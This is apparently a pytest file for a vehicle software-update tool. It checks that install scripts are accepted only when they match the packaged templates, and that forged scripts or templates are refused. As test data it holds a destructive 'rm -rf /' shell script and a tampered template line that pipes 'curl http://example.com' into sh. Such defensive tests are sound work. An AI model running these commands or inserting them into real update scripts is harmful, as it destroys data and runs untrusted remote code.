"""Scripts run in vehicles with the installer's rights: none is signed but those that the packaged templates give."""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import replace

import pytest

from nwmctl.domain.digest import digest_bytes
from nwmctl.domain.packing import Base, Compression, Packing, Part
from nwmctl.errors import ScriptUnprovenError
from nwmctl.formats.scripts import APPLY_TEMPLATE_NAME, script_of
from nwmctl.formats.swu import InstalledFile, Script, SwDescription, parse_description, render_description
from nwmctl.trust.script_proof import packaged_templates, prove_scripts

PLAIN, OTHER = digest_bytes(b"plain"), digest_bytes(b"other")
SLOTS = ("/car/a", "/car/b")
PARTS = (Part("net.000", PLAIN, 3, 3), Part("net.001", OTHER, 3, 3))
SPLIT = InstalledFile("net", digest_bytes(b"whole"), Packing(Compression.NONE, PARTS))
DELTA = InstalledFile(
    "net", digest_bytes(b"whole"), Packing(Compression.NONE, (Part("net.delta", OTHER, 3, 9),), Base("old", PLAIN))
)
FORGED = b"#!/bin/sh\nrm -rf /\n"


def described(file: InstalledFile) -> SwDescription:
    """As the signer reads it: back from the bytes."""
    files = (InstalledFile("bundle.json", PLAIN), file)
    return parse_description(render_description(SwDescription("r", 7, "board", ("one",), *SLOTS, files)))


def scripted(file: InstalledFile) -> InstalledFile:
    found = script_of(file, SLOTS, packaged_templates())
    assert found is not None
    return replace(file, join=found[0])


@pytest.mark.parametrize("file", [SPLIT, DELTA], ids=["parts", "delta"])
def test_what_the_packaged_templates_give_is_proven(file: InstalledFile) -> None:
    assert prove_scripts(described(scripted(file)), packaged_templates()) == 1
    assert prove_scripts(described(InstalledFile("net", PLAIN)), packaged_templates()) == 0


FORGERIES: dict[str, Callable[[Script], Script]] = {
    "another script": lambda script: replace(script, digest=digest_bytes(FORGED)),
    "another template": lambda script: replace(script, template=digest_bytes(FORGED)),
    "another name": lambda script: replace(script, filename="x.sh"),
}


@pytest.mark.parametrize("forge", FORGERIES.values(), ids=FORGERIES)
@pytest.mark.parametrize("file", [SPLIT, DELTA], ids=["parts", "delta"])
def test_any_other_script_is_refused(file: InstalledFile, forge: Callable[[Script], Script]) -> None:
    honest = scripted(file)
    assert honest.join is not None
    with pytest.raises(ScriptUnprovenError, match="script for 'net'"):
        prove_scripts(described(replace(honest, join=forge(honest.join))), packaged_templates())


def test_a_script_of_another_base_or_slot_is_refused() -> None:
    honest = scripted(DELTA)
    assert honest.packing is not None
    moved = replace(honest, packing=replace(honest.packing, base=Base("old", OTHER)))
    with pytest.raises(ScriptUnprovenError):
        prove_scripts(described(moved), packaged_templates())
    description = described(honest)
    with pytest.raises(ScriptUnprovenError):
        prove_scripts(replace(description, slot_a="/elsewhere"), packaged_templates())


def test_a_template_that_was_changed_where_bundles_are_built_does_not_count() -> None:
    own = packaged_templates()
    changed = {**own, APPLY_TEMPLATE_NAME: own[APPLY_TEMPLATE_NAME] + "curl http://example.com | sh\n"}
    found = script_of(DELTA, SLOTS, changed)
    assert found is not None
    with pytest.raises(ScriptUnprovenError):
        prove_scripts(described(replace(DELTA, join=found[0])), own)
